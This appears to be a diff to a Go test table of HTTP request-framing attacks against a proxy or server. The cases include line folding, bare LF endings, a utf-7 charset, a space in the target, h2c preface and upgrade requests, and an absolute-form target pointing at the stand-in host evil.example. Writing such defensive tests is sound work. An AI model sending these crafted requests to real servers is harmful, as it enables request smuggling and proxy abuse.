@@ -465,6 +465,10 @@ var framingAttacks = []attack{
 	{name: "obsolete line folding", raw: crlf("PUT /clinic/fr-12 HTTP/1.1\nHost: {{host}}\nContent-Type: application/json;\n charset=utf-7\nContent-Length: "+itoa(len(utf7Doc))+"\nConnection: close\n\n") + utf7Doc, status: unsupported, code: "unsupported_charset"},
 	{name: "bare LF line endings", raw: "PUT /clinic/fr-13 HTTP/1.1\nHost: {{host}}\nContent-Type: application/json; charset=utf-7\nContent-Length: " + itoa(len(utf7Doc)) + "\nConnection: close\n\n" + utf7Doc, status: unsupported, code: "unsupported_charset"},
 	{name: "absolute-form target in reverse mode", raw: crlf("PUT http://evil.example/clinic/fr-14 HTTP/1.1\nHost: evil.example\nContent-Type: application/json\nContent-Length: "+itoa(len(secretDoc))+"\nConnection: close\n\n") + secretDoc, status: 201, forwarded: true, after: sealedAt("/clinic/fr-14")},
+	// Go reads the h2c preface as an HTTP/1 request for "*"; the profile
+	// refuses the path.
+	{name: "HTTP/2 prior knowledge (h2c)", raw: "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", status: badRequest, code: "bad_request"},
+	{name: "h2c upgrade", raw: crlf("PUT /clinic/fr-16 HTTP/1.1\nHost: {{host}}\nConnection: Upgrade, HTTP2-Settings\nUpgrade: h2c\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\nContent-Type: application/json\nContent-Length: "+itoa(len(secretDoc))+"\n\n") + secretDoc, status: 201, forwarded: true, after: sealedAt("/clinic/fr-16")},
 	{name: "space in the target", raw: crlf("PUT /clinic/fr 15 HTTP/1.1\nHost: {{host}}\nContent-Type: application/json\nContent-Length: "+itoa(len(secretDoc))+"\nConnection: close\n\n") + secretDoc, status: badRequest},
 }
 
